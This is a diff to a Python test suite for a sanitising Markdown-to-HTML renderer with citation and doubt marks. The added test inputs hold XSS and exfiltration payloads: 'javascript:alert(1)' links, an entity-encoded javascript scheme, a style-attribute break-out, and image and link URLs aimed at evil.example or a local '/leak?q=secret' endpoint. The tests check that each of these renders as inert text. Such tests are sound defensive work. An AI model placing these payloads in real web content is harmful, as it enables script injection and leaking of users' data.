@@ -20,6 +20,17 @@ HOSTILE = st.lists(
                 "**",
                 "[1]",
                 "[2, 1]",
+                "~~",
+                "~~~ [?1]",
+                "~~said~~ [?1]",
+                "~~said~~ [?7]",
+                "[?1]",
+                "<http://evil.example/>",
+                "http://evil.example/?q=secret",
+                "[a][b]\n\n[b]: http://evil.example 'x'",
+                "<a href='javascript:alert(1)'>",
+                "&#106;avascript:alert(1)",
+                '" style="background:url(http://evil.example)',
                 "\\*",
                 "- ",
                 "3. ",
@@ -40,6 +51,10 @@ HOSTILE = st.lists(
 
 def mark(number: int) -> str | None:
     return f'<button type="button">{number}</button>' if number < 3 else None
+
+
+def doubt(number: int) -> str | None:
+    return f"<abbr>{number}</abbr>" if number < 3 else None
 
 
 def test_emphasis_and_citations_become_elements() -> None:
@@ -69,6 +84,75 @@ def test_links_and_images_stay_text() -> None:
     assert inline("[a](http://e.org)") == "[a](http://e.org)"
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "![x](http://127.0.0.1:1/leak?q=secret)",
+        "[click](http://evil.example/)",
+        "[click](javascript:alert(1))",
+        "<http://evil.example/>",
+        "http://evil.example/",
+        "<img src=http://evil.example/x>",
+        "<a href='javascript:alert(1)'>x</a>",
+        "[x]: http://evil.example/",
+    ],
+)
+def test_what_markdown_would_fetch_or_follow_is_shown_as_it_is_written(text: str) -> None:
+    reading = assert_ours(blocks(text, mark, doubt))
+    assert reading.tags == ["p"]
+    assert reading.attributes == []
+    assert reading.text == text
+
+
+def test_an_unsupported_statement_stands_before_its_mark() -> None:
+    assert inline(r"So. ~~It cost \[5\] & 2 ~ 3.~~ [?1] Then [1].", mark, doubt) == (
+        'So. <span class="unsupported">It cost [5] &amp; 2 ~ 3.</span> <abbr>1</abbr> '
+        'Then <button type="button">1</button>.'
+    )
+
+
+def test_a_statement_that_ends_with_a_tilde_is_marked_whole() -> None:
+    assert (
+        inline("~~about ~~~ [?1]", mark, doubt) == '<span class="unsupported">about ~</span> <abbr>1</abbr>'
+    )
+
+
+def test_a_mark_in_an_unsupported_statement_is_text() -> None:
+    html = inline("~~**so** [1]~~ [?1]", mark, doubt)
+    assert html == '<span class="unsupported"><strong>so</strong> [1]</span> <abbr>1</abbr>'
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "~~said~~",
+        "~~said~~ [?7]",
+        "~~said [?1]",
+        "[?1]",
+        "said~~ [?1]",
+        "~~~~ [?1]",
+        "~~one\ntwo~~ [?1]",
+        "~~ [?1]",
+    ],
+)
+def test_without_a_doubt_of_that_number_tildes_stay_text(text: str) -> None:
+    assert inline(text, mark, doubt) == text
+
+
+def test_tildes_of_a_document_do_not_reach_into_a_statement() -> None:
+    quoted = r"“a ~~ b ~~ \[?1\]” [1]. ~~So.~~ [?1]"
+    assert inline(quoted, mark, doubt) == (
+        '“a ~~ b ~~ [?1]” <button type="button">1</button>. '
+        '<span class="unsupported">So.</span> <abbr>1</abbr>'
+    )
+
+
+def test_marks_inside_tildes_without_a_doubt_keep_their_meaning() -> None:
+    assert inline("~~**so** [1]~~ [?7]", mark, doubt) == (
+        '~~<strong>so</strong> <button type="button">1</button>~~ [?7]'
+    )
+
+
 def test_paragraphs_lists_and_headings() -> None:
     html = blocks("# Head\nfirst\nsecond\n\n- one\n- two\n\n12. twelfth")
     assert html == (
@@ -83,8 +167,8 @@ def test_attribute_values_are_escaped_and_none_is_left_out() -> None:
 
 @given(HOSTILE)
 def test_no_element_or_attribute_of_the_text_survives(text: str) -> None:
-    reading = assert_ours(blocks(text, mark))
-    assert set(reading.tags) <= {"p", "ul", "ol", "li", "strong", "button"}
+    reading = assert_ours(blocks(text, mark, doubt))
+    assert set(reading.tags) <= {"p", "ul", "ol", "li", "strong", "button", "span", "abbr"}
     assert {name for name, _ in reading.attributes} <= {"type", "class", "start"}
 
 
